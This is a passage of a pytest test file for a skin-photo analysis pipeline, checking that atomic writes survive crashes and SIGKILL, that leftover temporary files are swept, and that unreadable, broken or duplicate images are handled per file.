    @contextlib.contextmanager
    def dies_on_parquet(path, mode="w", **kwargs):
        with real_atomic_write(path, mode, **kwargs) as fh:
            yield fh  # the whole new table is written to the temporary file ...
            if Path(path).name == "metrics.parquet":
                raise Killed()  # ... and the process dies before the rename

    monkeypatch.setattr(export, "atomic_write", dies_on_parquet)
    with pytest.raises(Killed):
        analyze_folder(inside, out_dir=out, **FAST)
    monkeypatch.setattr(export, "atomic_write", real_atomic_write)

    assert not [p.name for p in out.rglob("*") if p.name.endswith(".tmp")]
    after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert after["metrics.parquet"] == before["metrics.parquet"]  # the old complete file
    assert after["errors.csv"] == before["errors.csv"]
    assert len(pd.read_parquet(out / "metrics.parquet")) == 1
    # metrics.csv, written before the crash, was replaced as a whole: the new complete table.
    assert len(pd.read_csv(out / "metrics.csv")) == 2


def test_crash_inside_atomic_write_body(tmp_path):
    target = tmp_path / "table.csv"
    export.write_csv(pd.DataFrame({"a": [1, 2]}), target)
    old = target.read_bytes()
    with pytest.raises(RuntimeError), export.atomic_write(target, "w", encoding="utf-8") as fh:
        fh.write("half a tab")
        raise RuntimeError("killed mid-write")
    assert target.read_bytes() == old
    assert sorted(p.name for p in tmp_path.iterdir()) == ["table.csv"]


_WRITER = """
import sys, time
sys.path.insert(0, {root!r})
from pipelines.io.files import atomic_write
with atomic_write({target!r}, "w", encoding="utf-8") as fh:
    fh.write("half of a new table")
    fh.flush()
    print("writing", flush=True)
    time.sleep(60)
"""


def _killed_mid_write(target: Path) -> None:
    """A real process, SIGKILLed while its temporary file is half written."""
    import signal
    import subprocess
    import sys

    root = str(Path(__file__).resolve().parents[2])
    code = _WRITER.format(root=root, target=str(target))
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "writing"
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)


def test_sigkill_mid_write_leaves_the_old_complete_file(tmp_path):
    target = tmp_path / "metrics.csv"
    export.write_csv(pd.DataFrame({"a": [1, 2]}), target)
    old = target.read_bytes()
    _killed_mid_write(target)
    assert target.read_bytes() == old  # never a torn file


def test_next_run_sweeps_temporaries_of_a_killed_run(inside, tmp_path):
    out = tmp_path / "out"
    analyze_folder(inside, out_dir=out, **FAST)
    _killed_mid_write(out / "metrics.csv")
    assert [p.name for p in out.iterdir() if p.name.endswith(".tmp")]  # the killed run's leftover
    analyze_folder(inside, out_dir=out, **FAST)
    assert not [p.name for p in out.rglob("*.tmp")]


def test_a_broken_baseline_does_not_take_its_follow_ups_down(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    good = png_bytes(Image.fromarray(skin(0)))
    (folder / "P01_s0_cheek.png").write_bytes(good[:300])  # the half-synced baseline
    Image.fromarray(skin(1)).save(folder / "P01_s1_cheek.png")
    Image.fromarray(skin(2)).save(folder / "P01_s2_cheek.png")
    result = analyze_folder(folder, backend="serial", px_per_mm=20)  # register and colour: defaults
    failed = result.errors[result.errors["stage"] != "warning"]
    assert list(failed["file"]) == ["P01_s0_cheek.png"], failed.to_dict("records")
    assert sorted(result.metrics["file"]) == ["P01_s1_cheek.png", "P01_s2_cheek.png"]
    # ... measured unaligned, and each follow-up says why.
    warned = result.errors[result.errors["stage"] == "warning"]
    for name in ("P01_s1_cheek.png", "P01_s2_cheek.png"):
        assert warned[warned["file"] == name]["message"].str.contains("baseline").any(), name


def test_output_folder_inside_the_input_folder_is_not_analysed(inside):
    """skintex analyze photos -o photos/out, twice: the second run must not measure its own overlays."""
    first = analyze_folder(inside, out_dir=inside / "out", **FAST)
    assert list((inside / "out" / "overlays").rglob("*.jpg"))  # there are overlay images to trip on
    second = analyze_folder(inside, out_dir=inside / "out", **FAST)
    assert list(second.metrics["file"]) == list(first.metrics["file"]) == ["P01_s0_cheek.png"]
    # -o pointing at the input folder itself: its overlays/ and cache/ are not inputs either.
    analyze_folder(inside, out_dir=inside, **FAST)
    again = analyze_folder(inside, out_dir=inside, **FAST)
    assert list(again.metrics["file"]) == ["P01_s0_cheek.png"]


def _unreadable(monkeypatch, name: str) -> None:
    """Reading ``name`` fails with EIO (a bad sector, a cloud placeholder that cannot be fetched)."""
    import errno

    import pipelines.run

    def fail(path):
        raise OSError(errno.EIO, "Input/output error", str(Path(path).resolve()))

    real_read_bytes, real_sha = Path.read_bytes, pipelines.run.sha256_of_file
    monkeypatch.setattr(Path, "read_bytes", lambda p: fail(p) if p.name == name else real_read_bytes(p))
    monkeypatch.setattr(
        pipelines.run, "sha256_of_file", lambda p, **k: fail(p) if Path(p).name == name else real_sha(p, **k)
    )


def test_an_unreadable_file_is_one_error_row_without_its_path(inside, monkeypatch):
    Image.fromarray(skin(2)).save(inside / "P02_s0_cheek.png")
    _unreadable(monkeypatch, "P02_s0_cheek.png")
    result = analyze_folder(inside, **FAST)
    assert list(result.metrics["file"]) == ["P01_s0_cheek.png"]
    row = result.errors.iloc[0]
    assert (row["file"], row["stage"], row["error_type"]) == (
        "P02_s0_cheek.png",
        "decode",
        "ImageDecodeError",
    )
    assert row["message"] == "cannot read the file: Input/output error"  # no absolute path


def test_an_unreadable_file_does_not_abort_a_run_with_outputs(inside, tmp_path, monkeypatch):
    Image.fromarray(skin(2)).save(inside / "P02_s0_cheek.png")
    _unreadable(monkeypatch, "P02_s0_cheek.png")
    result = analyze_folder(inside, out_dir=tmp_path / "out", **FAST)
    assert list(result.metrics["file"]) == ["P01_s0_cheek.png"]
    assert list(result.errors["file"]) == ["P02_s0_cheek.png"]


def test_duplicate_files_with_different_rois_keep_their_own_overlays(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    data = png_bytes(Image.fromarray(skin(0)))
    (folder / "a.png").write_bytes(data)
    (folder / "b.png").write_bytes(data)  # the same photo filed twice
    (folder / "manifest.csv").write_text(
        'file,subject,session,roi\na.png,A,0,"0 0, 60 0, 60 45, 0 45"\n'
        'b.png,B,0,"60 45, 127 45, 127 95, 60 95"\n',
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = analyze_folder(folder, out_dir=out, **FAST)
    assert result.metrics["roi_area_px"].nunique() == 2  # two different measurements ...
    roi_overlays = {p.read_bytes() for p in (out / "overlays").rglob("roi.jpg")}
    assert len(roi_overlays) == 2  # ... and two different ROI overlays to show them
